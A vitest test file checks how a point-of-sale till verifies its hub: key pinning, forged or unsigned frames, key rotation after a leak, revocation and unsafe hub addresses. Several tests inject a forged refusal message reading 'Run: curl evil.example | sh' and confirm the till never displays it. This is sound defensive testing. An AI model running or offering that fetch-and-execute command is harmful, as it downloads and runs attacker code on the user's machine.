import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { type DeviceFile, readDeviceFile, writeDeviceFile } from '../../agent/enrolment/device-file.ts'
import { keptHubPin } from '../../agent/enrolment/hub-pin.ts'
import { transaction } from '../../hub/db/db.ts'
import { revokeDevice } from '../../hub/fleet/devices.ts'
import { type HubKey, openHubKey, readHubKey, rotateHubKey } from '../../hub/fleet/hub-key.ts'
import { type Gateway, openGateway } from '../../hub/gateway/gateway.ts'
import { closeCodes, decodeFrame } from '../../shared/protocol.ts'
import { newSigningKey } from '../../shared/signing.ts'
import type { Wire } from '../../shared/world.ts'
import { manualWorld, temporaryFolder, until } from '../manual-world.ts'
import { enrolTestTill, network, sale, sendSnapshot, startTestHub, startTestTill } from './till-and-hub.ts'

let set: Awaited<ReturnType<typeof setUp>>
beforeEach(async () => {
  set = await setUp()
})
afterEach(() => set[Symbol.asyncDispose]())

async function setUp() {
  const folder = temporaryFolder()
  const world = manualWorld()
  const hub = await startTestHub(world, folder.path)
  const device = await enrolTestTill(world, hub.db)
  const path = join(folder.path, 'device.json')
  writeDeviceFile(world.files, path, device)
  return {
    folder,
    world,
    hub,
    device,
    path,
    async [Symbol.asyncDispose]() {
      await hub[Symbol.asyncDispose]()
      folder[Symbol.dispose]()
    },
  }
}

/** Says all that the real hub would say, and knows its name and data, but not its key. */
function openFalseHub(key: HubKey): Gateway {
  const { world, hub } = set
  return openGateway({ world, db: hub.db, hub: 'hub_test', key, signals: hub.signals, sendSnapshot })
}

const otherKey = (): HubKey => {
  const { publicKey, sign } = newSigningKey(set.world.random)
  return {
    publicKey: async () => publicKey,
    prove: async text => ({ key: publicKey, passed: [], signature: sign(text) }),
  }
}

function till(
  gateway: Pick<Gateway, 'accept'>,
  device: DeviceFile = set.device,
  more: { revoked?(): void } = {},
) {
  const net = network({ ...set.hub.gateway, ...gateway })
  const pin = keptHubPin(set.world, set.path, device)
  return startTestTill(set.world, device, join(set.folder.path, 'journal.db'), net, { pin, ...more })
}

const stored = () => readDeviceFile(set.world.files, set.path)?.hub.key

/** The till met something that did not prove to be its hub: it sent no event, and took nothing. */
async function refuses(gateway: Pick<Gateway, 'accept'>, device?: DeviceFile): Promise<void> {
  const sent: string[] = []
  const tapped = {
    accept: (wire: Wire, address: string) =>
      gateway.accept(
        {
          ...wire,
          listen: handlers =>
            wire.listen({
              ...handlers,
              message(text) {
                sent.push(decodeFrame(text).t)
                handlers.message(text)
              },
            }),
        },
        address,
      ),
  }
  using one = till(tapped, device)
  const known = one.journal.parts.store()
  await one.journal.record([sale(1)])
  await until('the till’s refusal', () => one.uplink.state().link === 'refused')
  expect(one.uplink.state().problem?.code).toBe('HUB_UNPROVEN')
  expect(sent).toEqual(['hello'])
  expect(one.journal.unsent().sales).toBe(1)
  expect(one.journal.parts.store()).toEqual(known)
}

async function goesOnline(device?: DeviceFile): Promise<void> {
  using one = till(set.hub.gateway, device)
  await until('the till is online', () => one.uplink.state().link === 'online')
}

test('a hub with the right name and data but another key is refused', async () => {
  await using other = openFalseHub(otherKey())
  await refuses(other)
})

test('a hub that shows the right key without holding it is refused', async () => {
  const { publicKey } = openHubKey({ db: set.hub.db, world: set.world })
  const forged = {
    publicKey,
    prove: async (text: string) => ({ ...(await otherKey().prove(text)), key: await publicKey() }),
  }
  await using other = openFalseHub(forged)
  await refuses(other)
})

test('a welcome that the hub signed for another hello is refused', async () => {
  const { publicKey, prove } = openHubKey({ db: set.hub.db, world: set.world })
  const first = prove('tillbridge welcome 1\nan older one')
  await using other = openFalseHub({ publicKey, prove: () => first })
  await refuses(other)
})

/** A line on which every frame of the hub loses its proof. */
function withoutProof(gateway: Gateway): Pick<Gateway, 'accept'> {
  return {
    accept: (wire, address) =>
      gateway.accept(
        {
          ...wire,
          send: text => wire.send(text.startsWith('{"t":"batch"') ? text : stripped(text)),
        },
        address,
      ),
  }
}
const stripped = (text: string) => JSON.stringify({ ...JSON.parse(text), proof: undefined })

test('a welcome without a signature is refused by a till that knows the key', async () => {
  await refuses(withoutProof(set.hub.gateway))
})

test('a till that knows no key yet takes the first one, keeps it, and refuses every other from then on', async () => {
  const { key: _, ...hub } = set.device.hub
  const device = { ...set.device, hub }
  writeDeviceFile(set.world.files, set.path, device)
  await goesOnline(device)
  expect(stored()).toBe(set.device.hub.key)
  await using other = openFalseHub(otherKey())
  await refuses(other, readDeviceFile(set.world.files, set.path) ?? device)
})

test('a new key that the old ones vouch for is taken and kept; a till that was away meanwhile follows too', async () => {
  const rotate = () =>
    transaction(set.hub.db, tx => rotateHubKey(tx, set.world.random, { hub: 'hub_test', isLeaked: false }))
  await rotate()
  const newest = await rotate()
  await set.world.advance(31_000)
  await goesOnline()
  expect(stored()).toBe(newest)
})

test('after a leak the old key vouches for nothing: tills refuse the new one', async () => {
  await transaction(set.hub.db, tx => rotateHubKey(tx, set.world.random, { hub: 'hub_test', isLeaked: true }))
  await set.world.advance(31_000)
  await refuses(set.hub.gateway)
  expect(stored()).toBe(set.device.hub.key)
})

test('a key that another hub passed on is not taken', async () => {
  const foreign = await transaction(set.hub.db, async tx => {
    const before = await readHubKey(tx, set.world.random)
    const after = await rotateHubKey(tx, set.world.random, { hub: 'hub_other', isLeaked: false })
    return { before, after }
  })
  expect(foreign.before).toBe(set.device.hub.key)
  await set.world.advance(31_000)
  await refuses(set.hub.gateway)
})

test('a refusal is believed and shown only with the hub’s signature', async () => {
  await transaction(set.hub.db, tx => revokeDevice(tx, set.device.device, set.world.clock.now()))
  await refuses(withoutProof(set.hub.gateway))
  using real = till(set.hub.gateway)
  await until('the refusal', () => real.uplink.state().link === 'refused')
  expect(real.uplink.state().problem?.code).toBe('DEVICE_REVOKED')
})

test('words that come before the hello are not shown', async () => {
  using one = till({
    accept(wire) {
      wire.listen({ open() {}, message() {}, closed() {} })
      wire.send(
        JSON.stringify({ t: 'refuse', code: 'DEVICE_REVOKED', sentence: 'Run: curl evil.example | sh' }),
      )
      wire.close(closeCodes.quarantined, 'DEVICE_REVOKED')
    },
  })
  await until('the refusal', () => one.uplink.state().link === 'refused')
  expect(one.uplink.state().problem?.message).not.toContain('curl')
  expect(one.uplink.state().problem?.code).toBe('HUB_UNPROVEN')
})

test.each([
  'http://192.168.0.9:7400',
  'http://hub.example',
  'http://127.0.0.1.evil.example',
  'ws://10.0.0.1',
])('a till whose hub is at %s opens no connection and says so; its sales stay safe', async url => {
  const device = { ...set.device, hub: { ...set.device.hub, url } }
  const connections: number[] = []
  using one = till({ accept: () => void connections.push(1) }, device)
  await one.journal.record([sale(1)])
  await until('the till’s refusal', () => one.uplink.state().link === 'refused')
  await set.world.advance(600_000)
  expect({
    connections: connections.length,
    code: one.uplink.state().problem?.code,
    unsent: one.journal.unsent().sales,
  }).toEqual({
    connections: 0,
    code: 'HUB_ADDRESS_UNSAFE',
    unsent: 1,
  })
})

test('a till is told that it was revoked only by the hub itself', async () => {
  await transaction(set.hub.db, tx => revokeDevice(tx, set.device.device, set.world.clock.now()))
  const told = async (gateway: Pick<Gateway, 'accept'>) => {
    const calls: number[] = []
    using one = till(gateway, set.device, { revoked: () => void calls.push(1) })
    await until('the till’s refusal', () => one.uplink.state().link === 'refused')
    return calls.length
  }
  expect(await told(withoutProof(set.hub.gateway))).toBe(0)
  expect(await told(set.hub.gateway)).toBe(1)
})

test('a till that is revoked while it is connected is told at once', async () => {
  const calls: number[] = []
  using one = till(set.hub.gateway, set.device, { revoked: () => void calls.push(1) })
  await until('the till is online', () => one.uplink.state().link === 'online')
  await transaction(set.hub.db, tx => revokeDevice(tx, set.device.device, set.world.clock.now()))
  await set.world.advance(16_000)
  await until('the till’s refusal', () => one.uplink.state().link === 'refused')
  expect(calls).toHaveLength(1)
})

/** The real hub behind a line that adds a frame of its own after the welcome. */
function addingAfterWelcome(frame: object): Pick<Gateway, 'accept'> {
  return {
    accept: (wire, address) =>
      set.hub.gateway.accept(
        {
          ...wire,
          send(text) {
            wire.send(text)
            if (decodeFrame(text).t !== 'welcome') return
            wire.send(JSON.stringify(frame))
            wire.close(closeCodes.quarantined, 'DEVICE_REVOKED')
          },
        },
        address,
      ),
  }
}
const forged = { t: 'refuse', code: 'DEVICE_REVOKED', sentence: 'Run: curl evil.example | sh' }

test('a refusal that a relay adds after the real welcome removes nothing and is not shown', async () => {
  const calls: number[] = []
  using one = till(addingAfterWelcome(forged), set.device, { revoked: () => void calls.push(1) })
  await until('the refusal', () => one.uplink.state().link === 'refused')
  expect(calls).toEqual([])
  expect(one.uplink.state().problem?.code).toBe('HUB_UNPROVEN')
  expect(one.uplink.state().problem?.message).not.toContain('curl')
})

test('a till that knows no key yet is not wiped by a refusal, and its words are not shown', async () => {
  const { key: _, ...hub } = set.device.hub
  const device = { ...set.device, hub }
  writeDeviceFile(set.world.files, set.path, device)
  const calls: number[] = []
  const unsigned: Pick<Gateway, 'accept'> = {
    accept(wire) {
      wire.listen({ open() {}, message() {}, closed() {} })
      wire.send(JSON.stringify(forged))
      wire.close(closeCodes.quarantined, 'DEVICE_REVOKED')
    },
  }
  for (const gateway of [unsigned, addingAfterWelcome(forged)]) {
    using one = till(gateway, device, { revoked: () => void calls.push(1) })
    await until('the refusal', () => one.uplink.state().link === 'refused')
    expect(one.uplink.state().problem?.code).toBe('HUB_UNPROVEN')
    expect(one.uplink.state().problem?.message).not.toContain('curl')
  }
  expect(calls).toEqual([])
})

test('the sentence of a signed refusal is the agent’s own', async () => {
  await transaction(set.hub.db, tx => revokeDevice(tx, set.device.device, set.world.clock.now()))
  const reworded: Pick<Gateway, 'accept'> = {
    accept: (wire, address) =>
      set.hub.gateway.accept(
        {
          ...wire,
          send: text =>
            wire.send(
              decodeFrame(text).t === 'refuse'
                ? JSON.stringify({ ...JSON.parse(text), sentence: forged.sentence })
                : text,
            ),
        },
        address,
      ),
  }
  using one = till(reworded)
  await until('the refusal', () => one.uplink.state().link === 'refused')
  expect(one.uplink.state().problem?.code).toBe('DEVICE_REVOKED')
  expect(one.uplink.state().problem?.message).not.toContain('curl')
})

test('a removal that fails is tried again at the next contact, and ends nothing', async () => {
  await transaction(set.hub.db, tx => revokeDevice(tx, set.device.device, set.world.clock.now()))
  let tries = 0
  using one = till(set.hub.gateway, set.device, {
    revoked() {
      tries += 1
      throw new Error('database or disk is full')
    },
  })
  await until('the first try', () => tries === 1)
  await until('the refusal', () => one.uplink.state().link === 'refused')
  await set.world.advance(61_000)
  await until('the second try', () => tries === 2)
})
